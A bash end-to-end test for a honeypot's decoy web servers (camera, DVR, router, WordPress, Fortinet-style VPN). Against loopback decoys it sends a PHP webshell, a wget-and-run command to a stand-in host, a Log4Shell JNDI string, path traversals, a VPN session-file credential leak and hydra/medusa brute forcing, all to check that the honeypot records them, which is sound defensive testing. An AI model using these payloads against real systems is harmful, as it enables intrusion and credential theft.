#!/bin/bash
# The decoys' web servers met with curl, nmap, hydra and medusa.
#   tests/e2e/http.sh                                  a kansoku of its own, five personas
#   CHDB=/path/libchdb.so tests/e2e/http.sh            the store's engine, if it is elsewhere
#   HOST=192.0.2.5 PORT=80 PERSONA=camera tests/e2e/http.sh     one that runs already
# Exit status 0: all held, 1: the last lines say what did not, 77: a client is missing.
GIVEN_PORT=${PORT:-}
. "$(dirname "$0")/lib.sh"
for client in curl nmap hydra medusa; do
	command -v $client >/dev/null || skip "$client is missing"
done

# status EXPECTED WHAT CURL-ARGUMENTS...: the answer's head and body stay for holds()
status() {
	local want=$1 what=$2 got
	shift 2
	got=$(curl -sk -m 20 -o "$WORK/body" -D "$WORK/head" -w '%{http_code}' "$@")
	[ "$got" = "$want" ] || fail "$persona: $what: status $got, expected $want"
}

holds() { grep -q -- "$2" "$WORK/$1" || fail "$persona: $3: no \"$2\" in the $1"; }

camera() {
	status 401 'page without password' "$url/"
	holds head 'Digest realm="WIFICAM"' 'challenge'
	status 401 'digest with a wrong password' --digest -u admin:wrong "$url/"
	status 200 'digest' --digest -u admin:admin "$url/get_status.cgi"
	holds body 'realdeviceid' 'status page'
	status 200 'basic' -u admin:admin "$url/main.htm"
	status 200 'form' -c "$WORK/jar" -d 'loginuse=admin&loginpas=admin' "$url/login.cgi"
	status 200 'cookie' -b "$WORK/jar" "$url/main.htm"
	status 200 'picture' -u admin:admin "$url/snapshot.cgi"
	status 200 'upload in a form' -u admin:admin -F "file=@$WORK/firmware.bin" "$url/upgrade_firmware.cgi"
	status 400 'PUT' -T "$WORK/firmware.bin" "$url/loader.bin"
	status 400 'a head without end' -H "X: $(head -c 20000 /dev/zero | tr '\0' x)" "$url/"
	status 404 'no such page' "$url/nice%20ports%2C/Tri%6Eity.txt%2ebak"
	guess http-get /
}

dvr() {
	status 200 'login page' "$url/"
	holds body 'NETSurveillance' 'login page'
	status 200 'form with a wrong password' -d 'command=login&username=admin&password=x' "$url/Login.htm"
	holds body 'Log in failed' 'refusal'
	status 200 'form' -c "$WORK/jar" -d 'command=login&username=admin&password=' "$url/Login.htm"
	status 200 'cookie' -b "$WORK/jar" "$url/DVR.htm"
	holds body 'Channels' 'main page'
	status 200 'traversal' --path-as-is "$url/../../../etc/passwd"
	holds body 'root:' 'traversal'
	status 404 'attack' "$url/shell?cd+/tmp;wget+http://127.9.9.9/jaws;sh+jaws"
	status 501 'upload in chunks' -T - "$url/chunked.bin" <"$WORK/firmware.bin"
	guess http-post-form '/Login.htm:command=login&username=^USER^&password=^PASS^:Log in failed'
}

router() {
	status 401 'page without password' "$url/"
	status 401 'wrong password' -u admin:wrong "$url/"
	status 200 'basic' -u admin:admin "$url/userRpm/StatusRpm.htm"
	holds body 'wanPara' 'status page'
	guess http-get /
	found=$(medusa -h "$host" -n "$port" -u admin -P "$WORK/passwords" -M http -m DIR:/ 2>&1 | grep FOUND)
	[[ $found == *"Password: admin [SUCCESS]"* ]] || fail "$persona: medusa found \"$found\""
	[ "$(wc -l <<<"$found")" = 1 ] || fail "$persona: medusa found a false password: $found"
}

webserver() {
	status 200 'front page' "$url/"
	holds body 'name="generator" content="WordPress 6.1.1"' 'front page'
	status 200 'form with a wrong password' -d 'log=admin&pwd=x' "$url/wp-login.php"
	holds body 'The password you entered is incorrect' 'refusal'
	status 302 'form' -c "$WORK/jar" -d 'log=admin&pwd=admin' "$url/wp-login.php"
	status 200 'cookie' -b "$WORK/jar" "$url/wp-admin/"
	holds body Dashboard 'dashboard'
	printf '<?php echo md5("k"); system($_REQUEST["cmd"]); ?>' >"$WORK/s.php"
	status 200 'upload of a script' -F "file=@$WORK/s.php" "$url/upload.php"
	status 200 'webshell' -G --data-urlencode 'cmd=uname -m; cat /etc/passwd' "$url/uploads/s.php"
	holds body '8ce4b16b22b58894aa86c421e8759df3x86_64' 'webshell'
	holds body 'www-data:x:33:33' 'webshell'
	status 200 'traversal by parameter' "$url/download.php?file=../../../../etc/passwd"
	holds body '^root:x:0:0' 'traversal'
	status 400 'traversal by path' --path-as-is "$url/../../../etc/passwd"
	status 200 'lookup' -A '${jndi:ldap://127.9.9.9/a}' "$url/"
	guess http-post-form '/wp-login.php:log=^USER^&pwd=^PASS^:incorrect'
}

vpn_gateway() {
	status 200 'front page' "$url/"
	holds body 'top.location="/remote/login"' 'front page'
	status 200 'form' "$url/remote/login"
	holds body 'name="credential"' 'form'
	status 200 'a wrong password' -d 'ajax=1&username=admin&realm=&credential=x' "$url/remote/logincheck"
	holds body '^ret=0,redir=/remote/login?err=' 'refusal'
	status 200 'language' "$url/remote/fgt_lang?lang=en"
	holds body '^var fgt_lang' 'language'
	status 200 'traversal by parameter' --path-as-is "$url/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"
	local found
	found=$(tr '\0' '\n' <"$WORK/body" | grep -a . | grep -a -A 1 mkeller | tail -1)
	[ "$found" = 'Sommer2019!' ] || fail "$persona: no password in the sessions"
	status 200 'the password that lay there' -c "$WORK/jar" -d "ajax=1&username=mkeller&realm=&credential=$found" "$url/remote/logincheck"
	holds body '^ret=1,redir=/sslvpn/portal.html' 'log-in'
	status 200 'cookie' -b "$WORK/jar" "$url/sslvpn/portal.html"
	holds body 'SSL-VPN Portal' 'portal'
}

# Exactly the one password of the list that is right must be found.
guess() {
	local found
	found=$(hydra -q -I -t 2 -l admin -P "$WORK/passwords" -s "$port" "$host" "$1" "$2" 2>&1 |
		sed -n 's/.*password: *//p')
	[ "$found" = admin ] || fail "$persona: hydra found \"$found\", expected \"admin\""
}

declare -A named=([camera]='GoAhead WebServer' [dvr]='uc-httpd 1.0.0' [router]='TP-LINK WR841N' [webserver]='Apache httpd 2.4.56'
	[vpn_gateway]='Fortinet')

meet() { # persona host port, and https where it is not http
	persona=$1 host=$2 port=$3 url=${4:-http}://$2:$3
	[ -n "${named[$persona]:-}" ] || fail "no persona $persona is known here"
	"$persona"
	curl -sk -m 20 --http1.0 -o /dev/null "$url/" || fail "$persona: HTTP/1.0 is not answered"
	curl -sk -m 20 -I -o /dev/null "$url/" || fail "$persona: HEAD is not answered"
	nmap -n -Pn -sV -p "$port" "$host" >"$WORK/nmap" 2>&1
	grep -q "${named[$persona]}" "$WORK/nmap" || fail "$persona: nmap says $(grep "^$port" "$WORK/nmap")"
	grep -qi honeypot "$WORK/nmap" && fail "$persona: nmap calls it a honeypot"
	echo "$persona: as expected, nmap says $(grep "^$port/tcp" "$WORK/nmap")"
}

head -c 600 /dev/urandom >"$WORK/firmware.bin"
printf '%s\n' admin123 xc3511 12345678 admin qwerty letmein >"$WORK/passwords"
if [ -n "$GIVEN_PORT" ]; then
	meet "${PERSONA:-camera}" "$HOST" "$GIVEN_PORT"
	exit
fi

loopback_config <<-EOT
	passive:
	  decoys:
	    - {prefix: 127.21.0.1, personas: [camera]}
	    - {prefix: 127.21.0.2, personas: [dvr]}
	    - {prefix: 127.21.0.3, personas: [router]}
	    - {prefix: 127.21.0.4, personas: [webserver]}
	    - {prefix: 127.21.0.5, personas: [vpn_gateway]}
	  services: {http: {ports: [$HTTP_PORT], secure_ports: [$((HTTP_PORT + 2))]}}
	  workers: 1
	${CHDB:+store: {library: $CHDB\}}
EOT
start_kansoku
meet camera 127.21.0.1 $HTTP_PORT
meet dvr 127.21.0.2 $HTTP_PORT
meet router 127.21.0.3 $HTTP_PORT
meet webserver 127.21.0.4 $HTTP_PORT
meet vpn_gateway 127.21.0.5 $((HTTP_PORT + 2)) https

# What was done above is what was recorded.
ask() { timeout 20 "$KANSOKU" query --config "$CONFIG" --format tsv "$1" 2>/dev/null; }
count() { ask "SELECT count() FROM log WHERE service = 'http' AND $1"; }
for _ in $(seq 100); do
	seen=$(count "kind = 'request.seen' AND persona = 'router'") || break
	[ "${seen:-0}" -gt 9 ] && break
	sleep 0.2
done
[ -n "$seen" ] || { echo "the store does not answer (no engine?): what was recorded is not compared"; exit; }
accepted=$(count "kind = 'login.tried' AND login_accepted = 1 AND persona = 'dvr'")
[ "$accepted" = 2 ] || fail "dvr: $accepted logins accepted, expected 2: curl's and hydra's"
uploads=$(ask "SELECT count(), uniqExact(file_sha256) FROM log WHERE kind = 'file.captured' AND file_sha256 != ''")
[ "$uploads" = "4	2" ] || fail "uploads and their digests: $uploads, expected 3 of one file and a script"
jaws=$(count "kind = 'file.captured' AND value[indexOf(field, 'file.url')] = 'http://127.9.9.9/jaws'")
[ "$jaws" = 1 ] || fail "dvr: the file that an attack named was recorded $jaws times"
echo "recorded: $seen requests of the router's visitors, 3 uploads of one file, 1 file named"
